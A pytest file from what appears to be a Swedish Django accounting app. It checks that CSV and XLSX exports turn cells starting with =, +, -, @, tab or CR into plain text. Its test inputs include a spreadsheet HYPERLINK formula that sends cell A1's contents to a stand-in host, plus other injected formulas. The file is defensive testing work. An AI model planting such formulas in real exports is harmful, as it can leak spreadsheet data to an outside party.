"""No cell of an export can start a formula (issue 17.4): account names and object codes
beginning with = + - @ tab or CR leave as text, in CSV and XLSX alike."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ekonomi import services
from ekonomi.models import Budgetrad
from finsam.celler import ofarlig

D = datetime.date
ELAKA = ['=HYPERLINK("http://x.example/?"&A1;"Klicka")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("text", ELAKA)
def test_a_formula_start_becomes_text(text):
    assert ofarlig(text) == "'" + text


@pytest.mark.parametrize("varde", ["-1234", "-1 234,50", "+46", "1930", "Bank", "", None, 5])
def test_numbers_and_plain_text_are_left_alone(varde):
    assert ofarlig(varde) == varde


def _celler_csv(response) -> list[str]:
    text = response.content.decode("utf-8-sig")
    return [c for rad in csv.reader(io.StringIO(text, newline=""), delimiter=";") for c in rad]


def _celler_xlsx(response) -> list:
    wb = load_workbook(io.BytesIO(response.content))
    assert not [
        c.coordinate for rad in wb.active.iter_rows() for c in rad if c.data_type == "f"
    ], "formelceller i exporten"
    return [c for rad in wb.active.iter_rows(values_only=True) for c in rad]


@pytest.fixture
def elak_bok(forbund, ar, bokfor, kontoplan, projekt):
    konto = forbund.konton.get(nummer="4610")
    konto.namn = ELAKA[0]
    konto.save()
    projekt.kod = "=1+1"
    projekt.save()
    bokfor(D(2024, 3, 1), [("4610", 123450, [projekt]), ("1930", -123450)])
    return konto


def test_saldobalans_csv_and_xlsx_carry_no_formula(client_as, kansli, forbund, elak_bok):
    client = client_as(kansli)
    url = reverse("ekonomi:saldobalans", kwargs={"orgnr": forbund.orgnr}) + "?ar=2024"
    for celler in (
        _celler_csv(client.get(url + "&dimension=6&format=csv")),
        _celler_xlsx(client.get(url + "&dimension=6&format=xlsx")),
    ):
        assert "'" + ELAKA[0] in celler and ELAKA[0] not in celler
        assert "'=1+1" in celler and "=1+1" not in celler


def test_budget_csv_and_xlsx_carry_no_formula(client_as, kansli, forbund, ar, projekt):
    version = services.budgetversion_skapa(
        rakenskapsar=ar, typ="budget", namn="Budget", user=kansli
    )
    projekt.kod = "@SUM(A1)"
    projekt.save()
    Budgetrad.objects.create(
        version=version, konto=forbund.konton.get(nummer="4610"), objekt=projekt, belopp=-500
    )
    url = reverse("ekonomi:budget-export", kwargs={"orgnr": forbund.orgnr, "budget": version.pk})
    client = client_as(kansli)
    for celler in (
        _celler_csv(client.get(url)),
        _celler_xlsx(client.get(url + "?format=xlsx")),
    ):
        assert "'@SUM(A1)" in celler and "@SUM(A1)" not in celler
        assert any(str(c).startswith("-") or c == "-5,00" for c in celler if c not in ("", None))
